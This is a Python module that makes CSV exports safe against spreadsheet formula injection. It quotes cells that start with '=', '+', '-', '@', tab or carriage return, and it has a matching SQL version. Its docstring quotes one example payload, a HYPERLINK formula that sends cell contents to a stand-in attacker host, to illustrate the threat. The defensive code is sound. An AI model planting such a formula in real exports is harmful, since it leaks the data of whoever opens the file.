"""CSV exports that a spreadsheet opens as data, never as formulas: the one writer every
export uses (the referrals, funnel and bonus exports, `portevoix invites --format csv`).

Excel, LibreOffice Calc and Google Sheets evaluate a cell whose text starts with `=`,
`+`, `-` or `@` (and, after a tab or carriage return, whatever follows), so a candidate
named `=HYPERLINK("http://evil.example/?c="&A1,"CV")` on the public apply page would run
in the recruiter's spreadsheet. Following OWASP, such text is written with a leading
single quote, which the spreadsheet shows as text; the same check is made after leading
spaces, which some importers trim.

Numbers stay numbers: a cell is numeric only when the code hands over an `int`, `float`
or `Decimal` (a points adjustment of -50 is written `-50`); text is never read as a
number, so a name that happens to be "-50" is written `'-50`.

Rows are formatted one at a time (`csv_lines`) or a page at a time (`csv_block`), so an
export can be streamed as its rows are produced. An export whose cells the database
writes applies the same rule in SQL (`neutral_sql`).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator, Sequence
from decimal import Decimal

Cell = str | int | float | Decimal | None
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutral(value: Cell) -> str | int | float | Decimal:
    """The cell as written: numbers as they are, text that a spreadsheet would evaluate
    behind a single quote, None as an empty cell."""
    if value is None:
        return ""
    if isinstance(value, bool):  # a bool is an int to Python, a word to a reader
        return "yes" if value else "no"
    if isinstance(value, int | float | Decimal):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS) or text.lstrip(" ").startswith(FORMULA_STARTS):
        return "'" + text
    return text


def neutral_sql(expression: str) -> str:
    """`neutral` for a text column, in SQL that PostgreSQL and SQLite both run: for an
    export whose cells the database writes (`app.referrals.exports`). One test after the
    leading spaces covers both of `neutral`'s (a space starts no formula). An empty text
    becomes NULL, which both write as an empty cell."""
    starts = ", ".join(f"'{start}'" for start in FORMULA_STARTS)
    return (
        f"CASE WHEN substr(ltrim({expression}, ' '), 1, 1) IN ({starts}) "
        f"THEN '''' || {expression} ELSE NULLIF({expression}, '') END"
    )


def csv_lines(header: Sequence[str], rows: Iterable[Sequence[Cell]]) -> Iterator[str]:
    """The header line, then one line per row, each cell neutralised (lazily: a row is
    formatted only when its line is asked for)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")

    def line(cells: Sequence[Cell]) -> str:
        buffer.seek(0)
        buffer.truncate()
        writer.writerow([neutral(cell) for cell in cells])
        return buffer.getvalue()

    yield line(header)
    for row in rows:
        yield line(row)


def csv_block(rows: Iterable[Sequence[Cell]]) -> str:
    """The lines of `rows` as one string, each cell neutralised: a page of an export."""
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(
        [neutral(cell) for cell in cells] for cells in rows
    )
    return buffer.getvalue()


def csv_text(header: Sequence[str], rows: Iterable[Sequence[Cell]]) -> str:
    """The whole export as one string (for a file or stdout)."""
    return "".join(csv_lines(header, rows))
